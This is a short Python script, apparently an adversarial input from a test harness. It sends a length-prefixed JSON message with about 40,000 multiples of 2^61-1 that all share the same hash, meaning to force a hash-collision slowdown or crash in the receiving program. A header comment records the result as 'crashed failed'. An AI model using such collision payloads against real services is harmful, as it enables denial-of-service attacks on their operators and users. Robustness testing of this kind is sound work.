# Sends a set of 40,000 numbers that all have the same hash, which takes half a minute to build | crashed failed
import os
import time

MODULUS = (1 << 61) - 1


def double(number):
    body = b'{"id":1,"v":{"s":[' + b",".join(b"%d" % (MODULUS * turn) for turn in range(1, 40_000)) + b"]}}"
    data = memoryview(len(body).to_bytes(4, "big") + body)
    while data:
        data = data[os.write(4, data) :]
    time.sleep(30)
